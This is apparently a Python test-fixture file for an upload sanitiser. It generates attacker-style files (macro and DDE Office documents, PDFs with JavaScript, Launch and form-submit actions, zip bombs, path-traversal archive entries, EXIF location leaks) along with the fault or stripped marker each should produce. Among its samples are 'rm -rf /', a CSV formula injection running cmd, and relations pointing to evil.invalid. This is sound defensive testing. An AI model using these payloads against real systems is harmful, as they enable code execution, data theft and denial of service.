"""Files as an attacker would send them, made here; each is refused or comes out without its harm."""

import base64
import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

from app.files.kinds import FileFault

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SECRET = b"GPS-SECRET-39.8584N-116.2870E"
SCRIPT = b"<script>alert(1)</script>"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
TEXT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>{}</w:p></w:body></w:document>'
RELATION = '<Relationships><Relationship Id="r1" Type="http://x/{}" Target="http://evil.invalid/x" TargetMode="External"/></Relationships>'


def image(form="JPEG", size=(64, 48), **more):
    out = BytesIO()
    Image.new("RGB", size, (20, 120, 200)).save(out, form, **more)
    return out.getvalue()


def located(form="JPEG"):
    """With a place, a camera and a comment."""
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()
    exif[0x0112] = 6  # turned by a quarter
    place = exif.get_ifd(0x8825)
    place.update({1: "N", 2: (39.0, 51.0, 30.2), 3: "E", 4: (116.0, 17.0, 13.2), 29: SECRET.decode()})
    more = {"comment": SECRET} if form == "JPEG" else {}
    return image(form, exif=exif, **more)


def packed(parts, *, comment=b""):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, body in parts.items():
            package.writestr(name, body)
        package.comment = comment
    return out.getvalue()


OF_CORE = (
    '<Override PartName="/meta/who.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
)


def office(kind=WORD, parts=None, text="安好", types=""):
    main = "word/document.xml" if kind == WORD else "xl/workbook.xml"
    return packed(
        {
            "[Content_Types].xml": f'<Types><Override PartName="/{main}" ContentType="{kind}"/>{types}</Types>',
            "_rels/.rels": f'<Relationships><Relationship Id="r" Type="officeDocument" Target="{main}"/></Relationships>',
            main: TEXT.format(text),
            **(parts or {}),
        }
    )


def pdf(change=lambda pdf: None, **save):
    out = BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(200, 200))
        change(made)
        made.save(out, **save)
    return out.getvalue()


def _script(made):
    return made.make_indirect(Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('HARM')")))


def _opens(made):
    made.Root.OpenAction = _script(made)


def _packed_script(made):
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("HARM"), _script(made)])))


def _launch(made):
    act = Dictionary(
        S=Name.Launch, F=pikepdf.String("HARM.exe"), Next=Dictionary(S=Name.URI, URI=pikepdf.String("http://HARM"))
    )
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=act)])


def _leaves(made):
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=pikepdf.String("http://HARM")))


def _carries(made):
    made.attachments["HARM.exe"] = b"MZ HARM"


def _form(made):
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(made, b"<HARM/>"))


def _author(made):
    made.docinfo["/Author"] = "HARM"
    with made.open_metadata() as meta:
        meta["dc:creator"] = ["HARM"]


def _photo(made):
    photo = Stream(made, located())
    photo.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 64, "/Height": 48, "/BitsPerComponent": 8,
                  "/ColorSpace": Name.DeviceRGB, "/Filter": Name.DCTDecode})  # fmt: skip
    made.pages[0].Resources = Dictionary(XObject=Dictionary(P=made.make_indirect(photo)))


def _packed_photo(made):
    """As ReportLab writes it: the photo in letters."""
    _photo(made)
    photo = made.pages[0].Resources.XObject.P
    letters = base64.a85encode(photo.read_raw_bytes()) + b"~>"
    photo.write(letters, filter=Array([Name.ASCII85Decode, Name.DCTDecode]))


def _media(made):
    media = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=[0, 0, 9, 9],
        RichMediaContent=Dictionary(X=pikepdf.String("HARM")),
    )
    made.pages[0].Annots = Array([media])


def png_of(width, height):
    """The head of a picture of that size; there is no need for the rest."""

    def chunk(kind, body):
        return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))

    rows = zlib.compress(b"\0" * 10_000_000, 9)
    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def nested(levels=3):
    body = b"\0" * 5_000_000
    for level in range(levels):
        body = packed({f"{level}.zip": body})
    return body


def twice():
    """Two parts of one name, of which a reader may take either."""
    import warnings

    out = BytesIO(office())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as package:
        warnings.simplefilter("ignore")
        package.writestr("word/document.xml", "HARM")
    return out.getvalue()


def _instr(*pieces):
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def _linked(relation, name="word/_rels/document.xml.rels"):
    return office(parts={name: f"<Relationships>{relation}</Relationships>"})


def _other_type(kind, part="word/thing.dat", body="<x/>"):
    """A part whose harm stands in its type alone."""
    return office(parts={part: body}, types=f'<Override PartName="/{part}" ContentType="{kind}"/>')


def elsewhere_main(body):
    """The text of the document under a name that says nothing."""
    types = f'<Types><Override PartName="/word/text.dat" ContentType="{WORD}"/></Types>'
    return packed({"[Content_Types].xml": types, "word/text.dat": TEXT.format(body)})


def swollen(size, name=b"/FlateDecode"):
    """A PDF whose objects lie in a stream that unpacks to so many bytes."""
    packing = zlib.compressobj(9)
    packed_in = packing.compress(b"10 0 << /Type /Catalog /Pages 2 0 R >>")
    packed_in += b"".join(packing.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + packing.flush()
    held = b"<< /Type /ObjStm /N 1 /First 5 /Filter %s /Length %d >>\nstream\n%s\nendstream"
    objects = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        4: held % (name, len(packed_in), packed_in),
    }  # fmt: skip
    made, places = b"%PDF-1.7\n", {10: (2, 4, 0)}
    for number, body in objects.items():
        places[number] = (1, len(made), 0)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(struct.pack(">BIH", *places.get(number, (0, 0, 0))) for number in range(11))
    head = b"<< /Type /XRef /Size 11 /W [1 4 2] /Root 10 0 R /Length %d >>\nstream\n" % len(table)
    return made + b"5 0 obj\n%s%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, len(made))


def passes(count):
    """A JPEG of many scans: each is a few bytes, and costs its decoder a way over the whole picture."""
    whole = image(size=(640, 480), progressive=True)
    at = whole.index(b"\xff\xda")
    size = int.from_bytes(whole[at + 2 : at + 4], "big")
    end = next(
        n for n in range(at + 2 + size, len(whole)) if whole[n] == 0xFF and whole[n + 1] not in (0, *range(0xD0, 0xD8))
    )
    return whole[:end] + whole[at:end] * count + whole[end:]


def many_pictures(count):
    """Each is large and all are the same, so that hardly anything is left of them in the package."""
    large = png_of(7000, 7000)
    return office(parts={f"word/media/image{n}.png": large for n in range(count)})


BREAKS_OUT = 'TargetMode="External" Target="http://evil.invalid/x" Type="http://x/attachedTemplate"'
ZEROS = "0" * 60_000_000
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
BAD = {
    "eicar.txt": (EICAR, FileFault.TYPE),
    "eicar.jpg": (EICAR, FileFault.TYPE),
    "nothing.jpg": (b"", FileFault.EMPTY),
    "too-large.pdf": (b"%PDF-1.7" + b"0" * 10_500_000, FileFault.TOO_LARGE),
    "page.html": (b"<!doctype html>" + SCRIPT, FileFault.TYPE),
    "page.jpg": (b"<html>" + SCRIPT, FileFault.TYPE),
    "drawing.svg": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", FileFault.TYPE),
    "drawing.png": (b"<?xml version='1.0'?><svg onload='alert(1)'/>", FileFault.TYPE),
    "program.exe": (b"MZ\x90\0" + b"\0" * 100, FileFault.TYPE),
    "program.jpg": (b"\x7fELF" + b"\0" * 100, FileFault.TYPE),
    "run.sh": (b"#!/bin/sh\nrm -rf /\n", FileFault.TYPE),
    "run.bat": (b"@echo off\r\n", FileFault.TYPE),
    "run.js": (b"alert(1)", FileFault.TYPE),
    "link.lnk": (b"L\0\0\0\x01\x14\x02\0", FileFault.TYPE),
    "go.url": (b"[InternetShortcut]\nURL=file://evil", FileFault.TYPE),
    "table.csv": (b"=cmd|'/c calc'!A0", FileFault.TYPE),
    "letter.rtf": (rb"{\rtf1{\object\objdata}}", FileFault.TYPE),
    "film.mp4": (b"\0\0\0\x18ftypmp42" + b"\0" * 50, FileFault.TYPE),
    "moving.gif": (image("GIF"), FileFault.TYPE),
    "scan.tiff": (image("TIFF"), FileFault.TYPE),
    "archive.rar": (b"Rar!\x1a\x07\0", FileFault.TYPE),
    "archive.7z": (b"7z\xbc\xaf\x27\x1c", FileFault.TYPE),
    "archive.gz": (b"\x1f\x8b\x08" + b"\0" * 20, FileFault.TYPE),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, FileFault.OLD_OFFICE),
    "locked.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1EncryptedPackage", FileFault.OLD_OFFICE),
    "plain.zip": (packed({"a.txt": "x"}), FileFault.TYPE),
    "program.jar": (packed({"META-INF/MANIFEST.MF": "x"}), FileFault.TYPE),
    "bomb.zip": (nested(), FileFault.TYPE),
    "bomb.docx": (office(parts={"word/a.xml": ZEROS, "word/b.xml": ZEROS}), FileFault.UNREADABLE),
    "many.docx": (office(parts={f"word/{n}.xml": "" for n in range(2100)}), FileFault.UNREADABLE),
    "up.docx": (office(parts={"../../../etc/cron.d/x.xml": "x"}), FileFault.UNREADABLE),
    "root.docx": (office(parts={"/etc/passwd.xml": "x"}), FileFault.UNREADABLE),
    "back.docx": (office(parts={"word\\..\\x.xml": "x"}), FileFault.UNREADABLE),
    "twice.docx": (twice(), FileFault.UNREADABLE),
    "macro.xlsm": (office(MACRO_SHEET), FileFault.MACROS),
    "macro.xlsx": (office(SHEET, {"xl/vbaProject.bin": "HARM"}), FileFault.MACROS),
    "macro4.xlsx": (office(SHEET, {"xl/macrosheets/sheet1.xml": "<x/>"}), FileFault.MACROS),
    "linked.xlsx": (office(SHEET, {"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd'/>"}), FileFault.MACROS),
    "web.xlsx": (office(SHEET, {"xl/worksheets/sheet1.xml": "<f>WEBSERVICE(&quot;http://x&quot;)</f>"}), FileFault.MACROS),
    "control.docx": (office(parts={"word/activeX/activeX1.xml": "<x/>"}), FileFault.MACROS),
    "object.docx": (office(parts={"word/embeddings/oleObject1.bin": "MZ"}), FileFault.MACROS),
    "template.docx": (office(parts={"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate")}), FileFault.MACROS),
    "tracker.docx": (office(parts={"word/_rels/document.xml.rels": RELATION.format("image")}), FileFault.MACROS),
    "dde.docx": (office(text=_instr("DDEAUTO c:\\\\windows\\\\cmd.exe")), FileFault.MACROS),
    "dde-cut.docx": (office(text=_instr("D", "D", "EAUTO cmd")), FileFault.MACROS),
    "dde-entity.docx": (office(text=_instr("&#68;&#68;E cmd")), FileFault.MACROS),
    "entities.docx": (office(text="</w:p><!DOCTYPE x [<!ENTITY a 'b'>]><w:p>"), FileFault.MACROS),
    "utf16.docx": (office(parts={"word/x.xml": "<!DOCTYPE x>".encode("utf-16")}), FileFault.UNREADABLE),
    "drawing.docx": (office(parts={"word/media/a.svg": "<svg onload='alert(1)'/>"}), FileFault.MACROS),
    "cut.docx": (office()[:200], FileFault.UNREADABLE),
    "prefixed.docx": (_linked(f'<p:Relationship xmlns:p="http://x" Id="r" {BREAKS_OUT}/>'), FileFault.MACROS),
    "numbered.docx": (
        _linked(f'<Relationship Id="r" {BREAKS_OUT.replace("External", "&#69;xternal")}/>'), FileFault.MACROS
    ),
    "pointed.docx": (_linked(f'<Relationship Id=">" {BREAKS_OUT}/>'), FileFault.MACROS),
    "unsaid.docx": (_linked('<Relationship Id="r" Type="http://x/image" Target="http://evil.invalid/x"/>'), FileFault.MACROS),
    "capitals.docx": (_linked(f'<Relationship Id="r" {BREAKS_OUT}/>', "word/_rels/document.xml.RELS"), FileFault.MACROS),
    "renamed-dde.docx": (elsewhere_main(_instr("DDEAUTO cmd")), FileFault.MACROS),
    "dde-between.docx": (office(text=_instr("DD<x/>EAUTO cmd")), FileFault.MACROS),
    "chunk.docx": (_linked('<Relationship Id="r" Type="http://x/aFChunk" Target="x.dat"/>'), FileFault.MACROS),
    "renamed-vba.docx": (_other_type("application/vnd.ms-office.vbaProject"), FileFault.MACROS),
    "renamed-object.docx": (_linked('<Relationship Id="r" Type="http://x/oleObject" Target="x.dat"/>'), FileFault.MACROS),
    "no-font.docx": (office(parts={"word/fonts/a.ttf": "<x TargetMode=''><ddeLink/></x>"}), FileFault.MACROS),
    "coded.docx": (office(parts={"word/x.xml": "<?xml version='1.0' encoding='UTF-7'?><x/>"}), FileFault.UNREADABLE),
    "same-names.docx": (office(parts={"word/Document.xml": "<x/>"}), FileFault.UNREADABLE),
    "web-numbered.xlsx": (office(SHEET, {"xl/worksheets/a.xml": "<f>WEBSERV&#73;CE(1)</f>"}), FileFault.MACROS),
    "source.xlsx": (office(SHEET, {"xl/sources.xml": "<connection><webPr url='http://x'/></connection>"}), FileFault.MACROS),
    "seen.xlsx": (office(SHEET, {"xl/a.vml": "<v:fill xmlns:v='v' src='http://x/y.png'/>"}), FileFault.MACROS),
    "swollen.pdf": (swollen(100_000_000), FileFault.UNREADABLE),
    "swollen-otherwise.pdf": (swollen(0, b"/LZW#44ecode"), FileFault.UNREADABLE),
    "passes.jpg": (passes(200), FileFault.UNREADABLE),
    "pictures.docx": (many_pictures(8), FileFault.HUGE_IMAGE),
    "pixels.png": (png_of(20_000, 20_000), FileFault.HUGE_IMAGE),
    "lies.png": (png_of(4_000_000_000, 2), FileFault.HUGE_IMAGE),
    "cut.jpg": (image()[:30], FileFault.UNREADABLE),
    "noise.webp": (b"RIFF\x20\0\0\0WEBPVP8 " + b"\xff" * 30, FileFault.UNREADABLE),
    "noise.heic": (b"\0\0\0\x18ftypheic" + b"\xff" * 60, FileFault.UNREADABLE),
    "cut.pdf": (b"%PDF-1.7\n" + b"\xff" * 50, FileFault.UNREADABLE),
    "locked.pdf": (pdf(encryption=pikepdf.Encryption(owner="o", user="u")), FileFault.LOCKED),
    "half-locked.pdf": (pdf(encryption=pikepdf.Encryption(owner="o", user="")), FileFault.LOCKED),
    "late.pdf": (b"<html>" + SCRIPT + pdf(), FileFault.TYPE),
}  # fmt: skip
"""By name: the bytes, and why they are not taken."""

NEUTRALISED = {
    "place.jpg": (located(), SECRET),
    "place.png": (located("PNG"), SECRET),
    "place.webp": (located("WEBP"), SECRET),
    "zip-behind.jpg": (image() + packed({"x.html": SCRIPT}), b"PK\x03\x04"),
    "page-behind.png": (image("PNG") + SCRIPT, SCRIPT),
    "page-inside.jpg": (image(comment=SCRIPT), SCRIPT),
    "../../etc/passwd.jpg": (image() + b"HARM", b"HARM"),
    "opens.pdf": (pdf(_opens), b"HARM"),
    "script.pdf": (pdf(_packed_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), b"HARM"),
    "launch.pdf": (pdf(_launch), b"HARM"),
    "leaves.pdf": (pdf(_leaves), b"HARM"),
    "carries.pdf": (pdf(_carries), b"HARM"),
    "form.pdf": (pdf(_form), b"HARM"),
    "author.pdf": (pdf(_author), b"HARM"),
    "media.pdf": (pdf(_media), b"HARM"),
    "photo.pdf": (pdf(_photo), SECRET),
    "packed-photo.pdf": (pdf(_packed_photo), SECRET),
    "page-behind.pdf": (pdf() + SCRIPT, SCRIPT),
    "behind.docx": (office(parts={"xl/printerSettings/printerSettings1.bin": "HARM"}), b"HARM"),
    "photo.docx": (office(parts={"word/media/image1.jpeg": located()}), SECRET),
    "photo-renamed.docx": (office(parts={"word/media/image1.jfif": located()}), SECRET),
    "scan.docx": (office(parts={"word/media/image1.tiff": located("TIFF")}), SECRET),
    "moving.docx": (office(parts={"word/media/image1.gif": image("GIF", comment=SECRET)}), SECRET),
    "author.docx": (office(parts={"docProps/core.xml": "<dc:creator>HARM</dc:creator>"}), b"HARM"),
    "author-elsewhere.docx": (office(parts={"meta/who.xml": "<dc:creator>HARM</dc:creator>"}, types=OF_CORE), b"HARM"),
    "company.docx": (office(parts={"docProps/app.xml": "<Company>HARM</Company><Manager>HARM</Manager>"}), b"HARM"),
    "custom.docx": (office(parts={"docProps/custom.xml": "<property name='HARM'/>"}), b"HARM"),
    "comment.docx": (
        office(parts={"word/comments.xml": "<w:comment w:author='HARM' w:initials=\"HARM\">安</w:comment>"}),
        b"HARM",
    ),
    "tracked.docx": (office(text='<w:ins w:id="1" w:author = "HARM"><w:t>安</w:t></w:ins>'), b"HARM"),
    "people.docx": (
        office(parts={"word/people.xml": '<w15:person w15:author="HARM"><w15:p w15:userId="HARM"/></w15:person>'}),
        b"HARM",
    ),
    "comment.xlsx": (office(SHEET, {"xl/comments1.xml": "<authors><author>HARM</author></authors>"}), b"HARM"),
    "threads.xlsx": (
        office(SHEET, {"xl/persons/person.xml": '<person displayName="HARM" userId="HARM" id="{1}"/>'}),
        b"HARM",
    ),
    "folder.xlsx": (office(SHEET, {"xl/workbook2.xml": '<x15ac:absPath url="C:\\Users\\HARM\\"/>'}), b"HARM"),
    "shared.xlsx": (office(SHEET, {"xl/workbook3.xml": '<fileSharing userName="HARM"/>'}), b"HARM"),
}
"""By name: the bytes, and what must not be in what is kept, wherever it is packed away."""
